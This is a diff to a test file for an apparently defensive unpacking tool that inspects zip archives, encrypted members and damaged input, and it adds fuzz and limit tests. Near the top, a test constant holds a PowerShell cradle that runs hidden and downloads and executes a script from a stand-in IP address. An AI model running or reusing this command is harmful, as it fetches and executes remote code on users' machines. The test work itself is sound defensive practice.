@@ -1,7 +1,9 @@
 import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
 import { flat } from '../peel-many.js';
 import { peel } from '../peel.js';
 import { PEEL_LIMITS } from '../types.js';
+import { zip } from './zip.js';
 import { endOf, field, partsOf, u32, u64, zipOf } from './zip.test-helper.js';
 
 const TEXT = 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"';
@@ -82,6 +84,9 @@ describe('usual passwords', () => {
     const whoami = bytesOf(AES.malware).subarray(66, 66 + 31);
     const archive = zipOf([...Array.from({ length: others }, (_, at) => part(`${at}`, Buffer.alloc(40, at))), part('last', whoami)]);
     expect(membersIn(archive)).toHaveLength(opened);
+    expect(run(archive).notes).toHaveLength(20);
+    const few = peel(`FromBase64String('${zipOf([...Array.from({ length: others }, () => part('', Buffer.alloc(40))), part('last', whoami)]).toString('base64')}')`, PEEL_LIMITS).notes;
+    expect(few.includes('Encrypted members of a zip archive were left closed: 500 tries of a password are the limit.')).toBe(opened === 0);
   });
 });
 
@@ -207,6 +212,25 @@ describe('hostile archives', () => {
     const { layers, notes } = run(zipOf(Array.from({ length: 4_000 }, (_, at) => ({ name: `${at}.txt`, data: `number ${at}`, stored: true }))));
     expect(flat(layers)).toHaveLength(PEEL_LIMITS.layers);
     expect(notes).toEqual(['It stopped after 200 layers.']);
+  });
+
+  it('tells of members beyond those that it reads', () => {
+    const empty = Array.from({ length: 2_001 }, (_, at) => ({ name: `${at}`, data: '', stored: true }));
+    expect(run(zipOf(empty)).notes).toEqual(['Of a zip archive, only the first 2,000 members were read.']);
+    expect(run(zipOf(empty.slice(0, 1_999))).notes).toEqual([]);
+  });
+
+  it.each(Object.entries({ ...AES, ...ZIP64, zipCrypto: ZIP_CRYPTO.infected }))('survives any damage to %s', (_name, base64) => {
+    const whole = bytesOf(base64);
+    fc.assert(fc.property(fc.nat(whole.length), fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { maxLength: 4 }), (length, changes) => {
+      const bytes = Buffer.from(whole.subarray(0, length));
+      for (const [at, value] of changes) if (at < bytes.length) bytes[at] = value;
+      for (const { offset, length: taken, unpack } of zip.find(bytes)) {
+        expect(offset >= 0 && taken >= 0).toBe(true);
+        const made = unpack?.(bytes.subarray(offset, offset + taken), 10_000) ?? null;
+        expect(made === null || !('bytes' in made) || made.bytes.length <= 10_000).toBe(true);
+      }
+    }), { numRuns: 100 });
   });
 
   it('reads a directory whose extra fields run over their ends', () => {
